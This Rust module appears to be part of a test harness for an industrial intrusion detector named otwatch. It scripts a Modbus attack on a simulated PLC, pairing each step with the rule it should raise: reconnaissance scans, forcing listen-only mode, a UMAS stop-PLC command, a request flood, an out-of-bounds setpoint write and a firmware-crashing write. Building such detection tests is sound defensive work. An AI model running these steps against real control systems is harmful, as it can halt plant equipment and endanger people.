//! The attack script: what an intruder on the plant network (or on a compromised engineering
//! workstation) does, step by step, each step named with what otwatch should raise.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};
use tokio_modbus::client::{Client, Reader, Writer};
use tokio_modbus::prelude::{ReadCode, Request, Slave, SlaveContext};

use super::peers::{Link, ask, connect, connect_tcp};

/// One step of the attack: what it does and the rule it should raise.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Step {
    /// What the step does.
    pub what: &'static str,
    /// The otwatch rule it should raise.
    pub rule: &'static str,
    /// Whether it runs from the engineering workstation (a compromised one) rather than the
    /// intruder's own host.
    pub from_engineering: bool,
}

/// Every step, in order.
pub const STEPS: &[Step] = &[
    Step {
        what: "write the pump coil from a host the policy does not know",
        rule: "policy.unknown_master",
        from_engineering: false,
    },
    Step {
        what: "read device identification (43/14)",
        rule: "recon.read_device_id",
        from_engineering: false,
    },
    Step {
        what: "function-code scan",
        rule: "recon.function_code_scan",
        from_engineering: false,
    },
    Step {
        what: "points-list scan beyond the register map",
        rule: "recon.points_scan",
        from_engineering: false,
    },
    Step {
        what: "unit-id scan",
        rule: "recon.unit_id_scan",
        from_engineering: false,
    },
    Step {
        what: "force listen only mode (8/4)",
        rule: "diag.force_listen_only",
        from_engineering: false,
    },
    Step {
        what: "UMAS stop PLC",
        rule: "program.umas_stop",
        from_engineering: false,
    },
    Step {
        what: "request flood",
        rule: "dos.request_flood",
        from_engineering: false,
    },
    Step {
        what: "high setpoint far beyond the vessel, from the engineering workstation",
        rule: "policy.setpoint_out_of_bounds",
        from_engineering: true,
    },
];

/// A step apart from the script, as it takes the PLC down for [`super::plc::CRASH`]: every
/// master polling it meanwhile sees it fall silent.
pub const CRASH: Step = Step {
    what: "a crafted write that crashes the PLC's firmware",
    rule: "availability.device_unresponsive",
    from_engineering: false,
};

/// Crashes `plc` with one crafted write from `intruder`, checks once that it is gone, and
/// waits until it is back and answering again.
pub async fn crash(intruder: &Link, plc: SocketAddr, say: &(dyn Fn(&Step) + Sync)) {
    if let Ok(mut ctx) = connect(intruder, plc, 1).await {
        say(&CRASH);
        let _ = ask(ctx.write_single_register(super::plc::FRAGILE, 0xDEAD)).await;
        let _ = ask(ctx.read_holding_registers(0, 1)).await;
        drop(ctx);
    }
    sleep(super::plc::CRASH + Duration::from_secs(4)).await;
}

/// Plays every step against `plc`: the intruder's steps from `intruder`, the setpoint change
/// from `engineering`. `say` hears each step as it starts.
pub async fn attack(
    intruder: &Link,
    engineering: &Link,
    plc: SocketAddr,
    say: &(dyn Fn(&Step) + Sync),
) {
    let step = |i: usize| {
        if let Some(s) = STEPS.get(i) {
            say(s);
        }
    };
    if let Ok(mut ctx) = connect(intruder, plc, 1).await {
        step(0);
        let _ = ask(ctx.write_single_coil(0, false)).await;
        step(1);
        let _ = ask(ctx.read_device_identification(ReadCode::Basic, 0)).await;
        step(2);
        for fc in 0x41..0x49u8 {
            let _ = ask(ctx.call(Request::Custom(fc, vec![0x00, 0x00].into()))).await;
        }
        step(3);
        for address in (100..1000).step_by(100) {
            let _ = ask(ctx.read_holding_registers(address, 1)).await;
        }
        step(4);
        for unit in 2..=11u8 {
            ctx.set_slave(Slave(unit));
            let _ = ask(ctx.read_holding_registers(0, 1)).await;
        }
        ctx.set_slave(Slave(1));
        step(5);
        let _ = ask(ctx.call(Request::Custom(0x08, vec![0x00, 0x04, 0x00, 0x00].into()))).await;
        // The PLC is silent for a while: wait for it to come back.
        sleep(super::plc::LISTEN_ONLY + Duration::from_millis(500)).await;
        step(6);
        let _ = ask(ctx.call(Request::Custom(0x5A, vec![0x00, 0x41].into()))).await;
        let _ = ask(ctx.disconnect()).await;
    }
    step(7);
    flood(intruder, plc, 300).await;
    if let Ok(mut ctx) = connect(engineering, plc, 1).await {
        step(8);
        let _ = ask(ctx.write_single_register(0, 5000)).await;
        // Put it back, as the engineer would on noticing.
        let _ = ask(ctx.write_single_register(0, 800)).await;
        let _ = ask(ctx.disconnect()).await;
    }
}

/// Writes `count` read requests at once, without waiting for answers, then reads what comes.
async fn flood(link: &Link, plc: SocketAddr, count: u16) {
    let Ok(stream) = connect_tcp(link, plc).await else {
        return;
    };
    let mut frames = Vec::with_capacity(usize::from(count) * 12);
    for tid in 0..count {
        frames.extend_from_slice(&tid.to_be_bytes());
        frames.extend_from_slice(&[0, 0, 0, 6, 1, 0x03, 0, 0, 0, 1]);
    }
    let mut buf = vec![0u8; 64 << 10];
    match &link.tap {
        Some(tap) => {
            let Ok(mut s) = tap.wrap(stream) else { return };
            let _ = s.write_all(&frames).await;
            let _ = timeout(
                Duration::from_secs(2),
                drain(&mut s, &mut buf, usize::from(count) * 11),
            )
            .await;
        }
        None => {
            let mut s = stream;
            let _ = s.write_all(&frames).await;
            let _ = timeout(
                Duration::from_secs(2),
                drain(&mut s, &mut buf, usize::from(count) * 11),
            )
            .await;
        }
    }
}

async fn drain<S: AsyncReadExt + Unpin>(s: &mut S, buf: &mut [u8], mut want: usize) {
    while want > 0 {
        match s.read(buf).await {
            Ok(0) | Err(_) => return,
            Ok(n) => want = want.saturating_sub(n),
        }
    }
}
